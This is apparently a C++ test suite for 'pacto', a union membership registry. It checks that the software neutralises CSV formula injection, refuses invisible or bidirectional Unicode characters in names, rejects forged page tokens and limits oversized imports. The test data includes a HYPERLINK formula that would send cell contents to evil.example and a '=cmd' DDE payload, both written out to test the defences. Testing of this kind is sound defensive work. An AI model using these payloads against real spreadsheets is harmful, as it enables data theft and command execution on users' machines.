// Hostile input through the real `pacto` binary against real pacto-node processes
// (issue 12, items 3, 5 and 6): names that a spreadsheet would run as formulas, names
// that hide or reorder text, forged and borrowed page tokens, and a CSV field far too
// large to be a member row. Each attack is made as an enroller's file or flag would
// make it, and what comes out (the exported file, the --csv output, the error line,
// the import report) is what is checked.
#include <algorithm>
#include <map>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_replace.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "client/lib/pacto_client.h"
#include "gmock/gmock.h"
#include "google/protobuf/util/json_util.h"
#include "grpcpp/create_channel.h"
#include "gtest/gtest.h"
#include "pacto/v1/registry.grpc.pb.h"
#include "pacto/v1/registry.pb.h"
#include "pacto/v1/reports.pb.h"
#include "tests/support/processes.h"

namespace pacto {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

std::string Describe(const std::vector<std::string>& args, const CommandResult& r) {
  return absl::StrCat("pacto ", absl::StrJoin(args, " "), "\nexit ", r.exit_code,
                      "\nstdout: ", r.out.substr(0, 2000), "\nstderr: ", r.err.substr(0, 2000));
}

// The names an enroller may try to slip into an operator's spreadsheet. The node
// keeps them as they are (trimmed: a leading TAB or CR goes); every CSV Pacto writes
// must neutralise them, and `member import` must read them back exactly.
const std::vector<std::string>& FormulaNames() {
  static const auto* names = new std::vector<std::string>{
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"abrir\")",
      "=1+1",
      "+SUM(1,2)",
      "-2+3",
      "@SUM(A1:A2)",
      "\t=tab first",
      "\r=cr first",
      "'=already quoted",
      "'Quote Mamani",
      "Ana María Quispe",
  };
  return *names;
}

class HostileInputTest : public ::testing::Test {
 protected:
  std::unique_ptr<NodeProcess> StartNode(const std::string& id) {
    absl::StatusOr<std::unique_ptr<NodeProcess>> node = NodeProcess::Start(
        {.data_dir = dir_.Sub("data-" + id), .node_id = id, .region = "BO", .extra_args = {}});
    EXPECT_TRUE(node.ok()) << node.status();
    return node.ok() ? *std::move(node) : nullptr;
  }

  CommandResult Cli(const NodeProcess& node, std::vector<std::string> args) {
    args.insert(args.begin(), {"--node", node.address()});
    return RunCli(args);
  }

  std::string Ok(const NodeProcess& node, const std::vector<std::string>& args) {
    CommandResult r = Cli(node, args);
    EXPECT_EQ(r.exit_code, 0) << Describe(args, r);
    EXPECT_EQ(r.err, "") << Describe(args, r);
    return std::string(absl::StripSuffix(r.out, "\n"));
  }

  // The error line of a command that must fail, printing nothing on stdout.
  std::string Fails(const NodeProcess& node, const std::vector<std::string>& args) {
    CommandResult r = Cli(node, args);
    EXPECT_NE(r.exit_code, 0) << Describe(args, r);
    EXPECT_EQ(r.out, "") << Describe(args, r);
    EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << Describe(args, r);
    return r.err;
  }

  // Region BO and one sindicato in it; returns the chapter id.
  std::string Structure(const NodeProcess& node) {
    Ok(node, {"region", "add", "BO", "--name", "Bolivia"});
    return Ok(node, {"chapter", "add", "--name", "Sindicato Uno", "--region", "BO", "--level",
                     "sindicato"});
  }

  // Membership id → person name, of the chapter's members, read with --json.
  std::map<std::string, std::string> Names(const NodeProcess& node, const std::string& chapter) {
    const std::string out = Ok(node, {"member", "list", "--chapter", chapter, "--json"});
    v1::ListMembersResponse list;
    EXPECT_TRUE(google::protobuf::util::JsonStringToMessage(out, &list).ok()) << out;
    std::map<std::string, std::string> names;
    for (const v1::Membership& m : list.members()) names[m.id()] = m.person().name();
    return names;
  }

  ScratchDir dir_;
};

std::string CsvQuoted(const std::string& value) {
  return absl::StrCat("\"", absl::StrReplaceAll(value, {{"\"", "\"\""}}), "\"");
}

TEST_F(HostileInputTest, FormulaNamesAreNeutralisedInEveryCsvAndRoundTripExactly) {
  std::unique_ptr<NodeProcess> node = StartNode("n1");
  ASSERT_NE(node, nullptr);
  const std::string chapter = Structure(*node);
  std::string csv = "chapter,name\n";
  for (const std::string& name : FormulaNames()) {
    absl::StrAppend(&csv, chapter, ",", CsvQuoted(name), "\n");
  }
  // A hand-written file means what it says: "'=already quoted" loses its guard quote,
  // as the format documents (formula_cells.h); the export below writes it doubled.
  const std::string members_csv = dir_.Sub("members.csv");
  ASSERT_TRUE(WriteFile(members_csv, csv));
  Ok(*node, {"member", "import", members_csv});
  const std::map<std::string, std::string> names = Names(*node, chapter);
  ASSERT_EQ(names.size(), FormulaNames().size());
  std::vector<std::string> stored;
  for (const auto& [id, name] : names) stored.push_back(name);
  EXPECT_THAT(stored, ::testing::Contains("=1+1"));
  EXPECT_THAT(stored, ::testing::Contains("=tab first"));
  EXPECT_THAT(stored, ::testing::Contains("'Quote Mamani"));

  // The export: no cell begins with a formula character; the guarded ones are quoted.
  const std::string export_csv = dir_.Sub("export.csv");
  Ok(*node, {"member", "export", "--region", "BO", export_csv});
  const std::string exported = ReadFile(export_csv);
  for (const std::string& name : stored) {
    const bool guarded =
        name[0] == '=' || name[0] == '+' || name[0] == '-' || name[0] == '@' || name[0] == '\'';
    if (guarded) {
      EXPECT_THAT(exported, HasSubstr(CsvQuoted("'" + name))) << name;
    } else {
      EXPECT_THAT(exported, HasSubstr(name));
    }
  }
  for (absl::string_view line : absl::StrSplit(exported, '\n')) {
    for (absl::string_view cell : absl::StrSplit(line, ',')) {
      ASSERT_FALSE(!cell.empty() && (cell[0] == '=' || cell[0] == '+' || cell[0] == '@'))
          << "a cell starts a formula: " << cell;
      if (absl::ConsumePrefix(&cell, "\"")) {
        ASSERT_FALSE(!cell.empty() &&
                     (cell[0] == '=' || cell[0] == '+' || cell[0] == '@' || cell[0] == '-'))
            << "a quoted cell starts a formula: " << cell;
      }
    }
  }

  // Every --csv output goes through the same writer: a chapter named like a formula.
  Ok(*node,
     {"chapter", "add", "--name", "=cmd|' /C calc'!A0", "--region", "BO", "--level", "sindicato"});
  const std::string chapters_csv = Ok(*node, {"chapter", "list", "--csv"});
  EXPECT_THAT(chapters_csv, HasSubstr("\"'=cmd|' /C calc'!A0\""));
  EXPECT_THAT(chapters_csv, Not(HasSubstr(",=cmd")));
  const std::string vacancies_csv = Ok(*node, {"report", "vacancies", "--csv"});
  EXPECT_THAT(vacancies_csv, HasSubstr(",\"'=cmd|' /C calc'!A0\","));
  EXPECT_THAT(vacancies_csv, Not(HasSubstr(",=cmd")));

  // Into a fresh node: the same region and a new chapter; the file is the export with
  // the chapter id swapped. What lands is exactly what was exported, value for value.
  std::unique_ptr<NodeProcess> fresh = StartNode("n2");
  ASSERT_NE(fresh, nullptr);
  const std::string fresh_chapter = Structure(*fresh);
  const std::string reimport_csv = dir_.Sub("reimport.csv");
  ASSERT_TRUE(WriteFile(reimport_csv, absl::StrReplaceAll(exported, {{chapter, fresh_chapter}})));
  Ok(*fresh, {"member", "import", reimport_csv});
  EXPECT_EQ(Names(*fresh, fresh_chapter), names);

  // And back out of the fresh node: the same file, byte for byte, but the chapter.
  const std::string second_export = dir_.Sub("export2.csv");
  Ok(*fresh, {"member", "export", "--region", "BO", second_export});
  EXPECT_EQ(absl::StrReplaceAll(ReadFile(second_export), {{fresh_chapter, chapter}}), exported);
}

TEST_F(HostileInputTest, InvisibleFormattingCharactersAreRefusedNamingTheField) {
  std::unique_ptr<NodeProcess> node = StartNode("n1");
  ASSERT_NE(node, nullptr);
  const std::string chapter = Structure(*node);
  const std::string rlo = "\xE2\x80\xAE";   // U+202E RIGHT-TO-LEFT OVERRIDE
  const std::string zwsp = "\xE2\x80\x8B";  // U+200B ZERO WIDTH SPACE
  const std::string lri = "\xE2\x81\xA6";   // U+2066 LEFT-TO-RIGHT ISOLATE
  const std::string bom = "\xEF\xBB\xBF";   // U+FEFF inside text

  EXPECT_THAT(
      Fails(*node, {"member", "enrol", "--chapter", chapter, "--name", "Ana " + rlo + "inamaM"}),
      AllOf(StartsWith("error: INVALID_ARGUMENT: name: "),
            HasSubstr("invisible formatting characters"), HasSubstr("U+202E")));
  EXPECT_THAT(Fails(*node, {"chapter", "add", "--name", "Sindicato" + zwsp + "Uno", "--region",
                            "BO", "--level", "sindicato"}),
              StartsWith("error: INVALID_ARGUMENT: name: must not contain invisible"));
  EXPECT_THAT(Fails(*node, {"chapter", "add", "--name", "Sindicato Dos", "--region", "BO",
                            "--level", "sindicato", "--sector", "mine" + bom + "ro"}),
              StartsWith("error: INVALID_ARGUMENT: sector: must not contain invisible"));
  EXPECT_THAT(Fails(*node, {"region", "add", "LPZ", "--name", lri + "La Paz", "--parent", "BO"}),
              StartsWith("error: INVALID_ARGUMENT: name: must not contain invisible"));
  const std::string member =
      Ok(*node, {"member", "enrol", "--chapter", chapter, "--name", "Rosa Mamani"});
  EXPECT_THAT(Fails(*node, {"formation", "record", "--member", member, "--course",
                            "Historia" + zwsp + " Sindical", "--date", "2024-01-10"}),
              StartsWith("error: INVALID_ARGUMENT: course: must not contain invisible"));

  // In a file, the row is refused by its line and the others land.
  const std::string path = dir_.Sub("bidi.csv");
  ASSERT_TRUE(WriteFile(path, absl::StrCat("chapter,name\n", chapter, ",Juan Quispe\n", chapter,
                                           ",Eva ", rlo, "zaL\n", chapter, ",Luz Choque\n")));
  const std::vector<std::string> args = {"member", "import", path};
  CommandResult r = Cli(*node, args);
  EXPECT_EQ(r.exit_code, 1) << Describe(args, r);
  EXPECT_THAT(r.out, HasSubstr("line 3: INVALID_ARGUMENT: name: must not contain invisible"))
      << Describe(args, r);
  EXPECT_THAT(r.out, HasSubstr("imported 2 of 3 rows; 1 rejected")) << Describe(args, r);
  EXPECT_EQ(Names(*node, chapter).size(), 3u);  // Rosa, Juan, Luz
}

// A forged, altered or borrowed page token is refused naming page_token; it never
// answers OK with an empty page. Through libpacto, as any client would send it.
TEST_F(HostileInputTest, ForgedAndBorrowedPageTokensAreRefused) {
  std::unique_ptr<NodeProcess> node = StartNode("n1");
  ASSERT_NE(node, nullptr);
  Ok(*node, {"region", "add", "BO", "--name", "Bolivia"});
  Ok(*node, {"region", "add", "LPZ", "--name", "La Paz", "--parent", "BO"});
  for (const char* region : {"BO", "LPZ"}) {
    for (int i = 0; i < 3; ++i) {
      Ok(*node, {"chapter", "add", "--name", absl::StrCat("Sindicato ", region, " ", i), "--region",
                 region, "--level", "sindicato"});
    }
  }
  absl::StatusOr<std::unique_ptr<Client>> client = Client::Connect({.address = node->address()});
  ASSERT_TRUE(client.ok()) << client.status();

  v1::ListChaptersRequest lpz;
  lpz.set_region("LPZ");
  lpz.set_page_size(1);
  absl::StatusOr<v1::ListChaptersResponse> first = (*client)->ListChapters(lpz);
  ASSERT_TRUE(first.ok()) << first.status();
  const std::string token = first->next_page_token();
  ASSERT_FALSE(token.empty());
  lpz.set_page_token(token);
  absl::StatusOr<v1::ListChaptersResponse> second = (*client)->ListChapters(lpz);
  ASSERT_TRUE(second.ok()) << second.status();
  EXPECT_EQ(second->chapters_size(), 1);

  auto refused = [&](const v1::ListChaptersRequest& request, const std::string& what) {
    absl::StatusOr<v1::ListChaptersResponse> page = (*client)->ListChapters(request);
    EXPECT_EQ(page.status().code(), absl::StatusCode::kInvalidArgument) << what << page.status();
    EXPECT_THAT(std::string(page.status().message()), StartsWith("page_token: ")) << what;
  };
  v1::ListChaptersRequest garbage = lpz;
  garbage.set_page_token("garbage");
  refused(garbage, "garbage");
  v1::ListChaptersRequest altered = lpz;
  altered.set_page_token(std::string(token.size(), 'A'));
  refused(altered, "altered");
  v1::ListChaptersRequest other_region = lpz;
  other_region.set_region("BO");
  refused(other_region, "another region's query");
  v1::ListChaptersRequest unfiltered = lpz;
  unfiltered.clear_region();
  refused(unfiltered, "an unfiltered query");
  v1::ListRegionsRequest regions;
  regions.set_page_token(token);
  absl::StatusOr<v1::ListRegionsResponse> region_page = (*client)->ListRegions(regions);
  EXPECT_EQ(region_page.status().code(), absl::StatusCode::kInvalidArgument)
      << region_page.status();

  // The token of one node pages nothing on another.
  std::unique_ptr<NodeProcess> other = StartNode("n2");
  ASSERT_NE(other, nullptr);
  Ok(*other, {"region", "add", "BO", "--name", "Bolivia"});
  Ok(*other, {"region", "add", "LPZ", "--name", "La Paz", "--parent", "BO"});
  absl::StatusOr<std::unique_ptr<Client>> other_client =
      Client::Connect({.address = other->address()});
  ASSERT_TRUE(other_client.ok());
  absl::StatusOr<v1::ListChaptersResponse> elsewhere = (*other_client)->ListChapters(lpz);
  EXPECT_EQ(elsewhere.status().code(), absl::StatusCode::kInvalidArgument) << elsewhere.status();
}

// A quoted field of 20 MB (a quote left open, or an attack) is one bad row, named by
// its line; the rows around it land, and the report counts exactly what landed.
TEST_F(HostileInputTest, AHugeFieldIsABadRowAndTheCountIsExact) {
  std::unique_ptr<NodeProcess> node = StartNode("n1");
  ASSERT_NE(node, nullptr);
  const std::string chapter = Structure(*node);
  std::string csv = "chapter,name\n";
  for (int i = 0; i < 3; ++i) absl::StrAppend(&csv, chapter, ",Antes ", i, "\n");
  absl::StrAppend(&csv, chapter, ",\"", std::string(20 << 20, 'x'), "\"\n");
  for (int i = 0; i < 2; ++i) absl::StrAppend(&csv, chapter, ",Despues ", i, "\n");
  const std::string path = dir_.Sub("huge.csv");
  ASSERT_TRUE(WriteFile(path, csv));

  const std::vector<std::string> args = {"member", "import", path};
  CommandResult r = Cli(*node, args);
  EXPECT_EQ(r.exit_code, 1) << Describe(args, r);
  EXPECT_EQ(r.err, "error: INVALID_ARGUMENT: 1 of 6 rows rejected; the other 5 were imported\n")
      << Describe(args, r);
  EXPECT_EQ(r.out,
            "line 5: INVALID_ARGUMENT: name: 20971520 bytes; a member row may hold at most 65536 "
            "bytes (a quote left open in the file?)\n"
            "imported 5 of 6 rows; 1 rejected\n")
      << Describe(args, r);
  EXPECT_EQ(Names(*node, chapter).size(), 5u);
}

// The protocol underneath: a node that stops reading an import early (a message over
// its row limit) still ends the call OK with the counts of the rows it read, and says
// where and why it stopped, so no client is left guessing.
TEST_F(HostileInputTest, ANodeThatStopsAnImportEarlyStillReportsItsCounts) {
  std::unique_ptr<NodeProcess> node = StartNode("n1");
  ASSERT_NE(node, nullptr);
  const std::string chapter = Structure(*node);
  auto stub = v1::Registry::NewStub(
      grpc::CreateChannel(node->address(), grpc::InsecureChannelCredentials()));
  grpc::ClientContext context;
  v1::ImportMembersResponse response;
  std::unique_ptr<grpc::ClientWriter<v1::ImportMembersRequest>> writer =
      stub->ImportMembers(&context, &response);
  v1::ImportMembersRequest good;
  for (int i = 0; i < 3; ++i) {
    v1::ImportRow* row = good.add_rows();
    row->set_line(2 + i);
    row->set_chapter(chapter);
    row->set_name(absl::StrCat("Primera ", i));
  }
  ASSERT_TRUE(writer->Write(good));
  v1::ImportMembersRequest too_many;
  for (int i = 0; i < 10001; ++i) {
    v1::ImportRow* row = too_many.add_rows();
    row->set_line(5 + i);
    row->set_chapter(chapter);
    row->set_name(absl::StrCat("Otra ", i));
  }
  writer->Write(too_many);  // may already fail: the node stops reading
  writer->WritesDone();
  grpc::Status status = writer->Finish();
  ASSERT_TRUE(status.ok()) << status.error_code() << " " << status.error_message();
  EXPECT_EQ(response.accepted(), 3u);
  EXPECT_EQ(response.rejected(), 0u);
  ASSERT_TRUE(response.has_stopped());
  EXPECT_EQ(response.stopped().line(), 5u);
  EXPECT_EQ(response.stopped().code(), "INVALID_ARGUMENT");
  EXPECT_THAT(response.stopped().message(), StartsWith("rows: at most 10000 rows per message"));
  EXPECT_EQ(Names(*node, chapter).size(), 3u);
}

}  // namespace
}  // namespace pacto
